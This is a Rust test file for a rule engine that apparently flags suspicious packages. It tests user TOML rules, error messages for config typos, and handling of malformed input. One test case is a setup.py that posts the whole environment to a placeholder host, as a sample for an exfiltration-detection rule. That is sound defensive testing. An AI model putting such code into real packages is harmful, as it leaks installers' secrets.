//! Rules over facts: what they find, and what is said about mistakes in them.

use foretaste_user_rules::UserRules;

const FILE: &str = r#"
[[rules]]
id = "acme-ships-environment"
title = "sends the environment away"
severity = "high"
files = ["*.py"]
when = { chain = { from = "environment.*", to = "network.*" }, not = { host = "*.acme.example" } }

[[rules.cases]]
title = "posts it"
expect = "fire"
files = { "setup.py" = """
import os, requests
requests.post("https://collect.invalid", json=dict(os.environ))
""" }

[[rules.cases]]
title = "to ourselves"
expect = "silent"
files = { "setup.py" = """
import os, requests
requests.post("https://api.acme.example", json=dict(os.environ))
""" }

[[rules]]
id = "acme-young-native"
title = "is young and brings native code"
severity = "medium"
scope = "package"
when = { all = [{ age-days = { max = 7 } }, { any = [{ import = "ctypes" }, { language = "native" }] }] }

[[rules.cases]]
title = "two days old"
expect = "fire"
release = "pkg:pypi/x@1.0"
age-days = 2
files = { "a.py" = "import ctypes\n" }

[[rules.cases]]
title = "old"
expect = "silent"
release = "pkg:pypi/x@1.0"
age-days = 200
files = { "a.py" = "import ctypes\n" }

[[rules]]
id = "acme-name"
title = "has a name of ours"
severity = "low"
when = { name = "acme-*", ecosystem = "pypi" }
cases = [
  { title = "ours", expect = "fire", release = "pkg:pypi/acme-x@1.0" },
  { title = "not ours", expect = "silent", release = "pkg:pypi/x-acme@1.0" },
]
"#;

#[test]
fn the_cases_of_a_file_hold() {
    let mut rules = UserRules::default();
    assert_eq!(
        rules.add("acme.toml", FILE, &[]).map_err(|e| e.to_string()),
        Ok(3)
    );
    let results = rules.test();
    let failures: Vec<_> = results.iter().filter(|r| r.failure.is_some()).collect();
    assert!(failures.is_empty(), "{failures:?}");
    assert_eq!(results.len(), 6);
    assert!(
        rules
            .page("acme-name")
            .is_some_and(|p| p.starts_with("# has a name of ours"))
    );
    assert_eq!(rules.rules().len(), 3);
}

#[test]
fn a_case_that_does_not_hold_says_why() {
    let mut rules = UserRules::default();
    let text = FILE.replace("expect = \"silent\"", "expect = \"fire\"");
    rules.add("acme.toml", &text, &[]).expect("reads");
    let failures = rules
        .test()
        .into_iter()
        .filter_map(|r| r.failure)
        .collect::<Vec<_>>();
    assert_eq!(failures.len(), 3, "{failures:?}");
    assert_eq!(failures[0], "should fire, and is silent");
}

fn mistakes(text: &str) -> String {
    let mut rules = UserRules::default();
    let Err(errors) = rules.add("acme.toml", text, &["no-readme"]) else {
        return String::new();
    };
    errors.to_string()
}

#[test]
fn mistakes_are_told_with_place_and_way_out() {
    let head = "[[rules]]\nid = \"a\"\ntitle = \"t\"\nseverity = \"high\"\n";
    let told = mistakes(&format!("{head}wen = {{ api = \"x\" }}\n"));
    assert!(
        told.contains("cannot read acme.toml:5:1: unknown key `rules[0].wen`"),
        "{told}"
    );
    assert!(told.contains("did you mean `when`?"), "{told}");
    let told = mistakes(&format!(
        "{head}when = {{ all = [{{ capabilty = \"network.http\" }}] }}\n"
    ));
    assert!(
        told.contains("acme.toml:5:19") && told.contains("did you mean `capability`?"),
        "{told}"
    );
    let told = mistakes(&format!(
        "{head}when = {{ not = {{ capability = \"network.htp\" }} }}\n"
    ));
    assert!(
        told.contains("no capability `network.htp`")
            && told.contains("did you mean `network.http`?"),
        "{told}"
    );
    assert!(mistakes(&format!("{head}when = {{}}\n")).contains("an empty condition always holds"));
    let same = mistakes(
        "[[rules]]\nid = \"no-readme\"\ntitle = \"t\"\nseverity = \"high\"\nwhen = { api = \"x\" }\n",
    );
    assert!(
        same.contains("there is a rule `no-readme` already"),
        "{same}"
    );
    let word = mistakes(
        "[[rules]]\nid = \"a\"\ntitle = \"t\"\nseverity = \"hihg\"\nwhen = { language = \"pyhton\" }\n",
    );
    assert!(
        word.contains("acme.toml:4:12") && word.contains("did you mean `high`?"),
        "{word}"
    );
    assert!(mistakes("[[rules]]\n").contains("has no `id`"));
}

#[test]
fn hostile_files_are_errors_and_end_soon() {
    let deep = format!(
        "{}{}",
        "[[rules]]\nwhen = ".to_owned() + &"{ not = ".repeat(20_000),
        "}".repeat(20_000)
    );
    assert!(!mistakes(&deep).is_empty());
    assert!(!mistakes("rules = 3").is_empty());
    assert!(!mistakes("\u{0}").is_empty());
}

proptest::proptest! {
    #[test]
    fn any_text_is_survived(text in "[\\[\\]{}=\"a-z.\n ]{0,200}") {
        mistakes(&text);
    }
}
